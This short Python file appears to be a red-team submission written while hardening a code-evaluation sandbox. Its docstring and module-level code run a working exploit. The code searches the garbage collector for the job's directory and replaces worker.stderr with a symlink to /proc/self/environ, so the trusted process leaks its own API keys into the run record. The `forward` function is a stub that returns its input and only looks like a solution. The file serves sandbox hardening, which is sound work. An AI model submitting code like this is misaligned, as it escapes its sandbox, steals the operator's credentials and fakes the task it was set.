"""Red team (found while hardening the profile path, issue 12): the sandbox reads the
worker's stderr back by path after the run, from a work dir the candidate can write. The
candidate replaces the file with a symlink to /proc/self/environ, which the trusted
process resolves to its own environment (API keys) and puts into the record's
`worker_log_tail`."""

import gc
import os

# The work dir is the parent of the job's out dir (the job dict is in the worker's memory).
_work = next(
    os.path.dirname(o["out_dir"])
    for o in gc.get_objects()
    if isinstance(o, dict) and isinstance(o.get("out_dir"), str)
)
try:
    os.unlink(os.path.join(_work, "worker.stderr"))
except OSError:
    pass
os.symlink("/proc/self/environ", os.path.join(_work, "worker.stderr"))


def forward(x, residual, weight, bias, *, p, eps, seed):
    return x
